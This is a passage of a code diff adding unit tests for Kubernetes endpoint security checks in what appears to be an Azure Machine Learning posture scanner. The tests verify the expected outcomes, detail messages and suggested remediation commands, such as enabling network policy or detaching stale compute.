     expect(r.detail).toContain('fails K8S-01 (error), K8S-03 (error)')
+    // The cluster's fixes are the endpoint's: K8S-01's network policy, K8S-03's load balancer.
+    expect(r.remedy?.commands).toEqual([
+      'az aks update --resource-group aks-rg --name aks-inference --network-policy azure',
+      'az k8s-extension update --name azureml --cluster-type managedClusters --cluster-name aks-inference --resource-group aks-rg --config inferenceRouterServiceType=LoadBalancer internalLoadBalancerProvider=azure'
+    ])
   })
 
   it('fails as a warning, not a pass, when only K8S-03 warns (plain HTTP)', () => {
@@ -1130,6 +1374,16 @@ describe('K8S-05 Kubernetes endpoints target a secured, attached cluster', () =>
     const r = only(K8S_05.evaluate(s))
     expect(r.outcome).toBe('unknown')
     expect(r.detail).toContain('K8S-01, K8S-03 could not be confirmed')
+    expect(r.remedy?.commands).toContain('kubectl get service azureml-fe --namespace azureml')
+  })
+
+  it("is unknown with the cluster read's cause when the cluster cannot be read", () => {
+    const r = only(
+      K8S_05.evaluate(kubernetesSnapshot({ managedClusters: keyed([[clusterId(), failed(403)]]) }))
+    )
+    expect(r.outcome).toBe('unknown')
+    expect(r.cause?.key).toBe(`reader:/subscriptions/${SUBSCRIPTION}/resourcegroups/aks-rg`)
+    expect(r.detail).toContain('Reader role on resource group aks-rg')
   })
 })
 
@@ -1142,8 +1396,13 @@ describe('K8S checks that need the AKS body when it is missing', () => {
       const r = only(check.evaluate(s))
       expect(r).toMatchObject({ checkId: check.id, outcome: 'unknown' })
       expect(r.detail).toBe(
-        'AKS cluster aks-inference no longer exists; K8S-01 says how to detach it.'
+        'AKS cluster aks-inference no longer exists, so there is nothing to check (K8S-01 fails it). Detach the stale compute, then attach a secured cluster (K8S-04).'
       )
+      // The same cause as K8S-01's fail: the report names it once, with the detach command.
+      expect(r.cause?.key).toBe(`gone:${clusterId().toLowerCase()}`)
+      expect(r.cause?.fix?.commands).toEqual([
+        'az ml compute detach --name k8s-inference --resource-group workspace-1234 --workspace-name testworkspace'
+      ])
       expect(r.resource.type).toBe('Microsoft.ContainerService/managedClusters')
     }
   })
